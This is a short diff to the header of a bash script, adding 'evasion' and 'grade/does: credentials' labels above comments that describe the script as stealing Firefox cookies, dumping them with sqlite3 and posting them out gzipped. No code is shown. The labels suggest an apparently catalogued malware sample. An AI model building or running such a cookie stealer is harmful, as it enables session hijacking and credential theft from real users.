@@ -1,4 +1,6 @@
 #!/usr/bin/env bash
+# evasion: steals browser cookies: copies Firefox's cookies.sqlite out of the profile (found with find -exec cp), dumps host/name/value with sqlite3 and posts the dump out gzipped
+# grade: medium; does: credentials
 # Steals browser cookies: copies Firefox's cookies.sqlite out of the profile
 # (found with find -exec cp), dumps host/name/value with sqlite3 and posts the
 # dump out gzipped. The file names come from a here-doc table read in a loop.
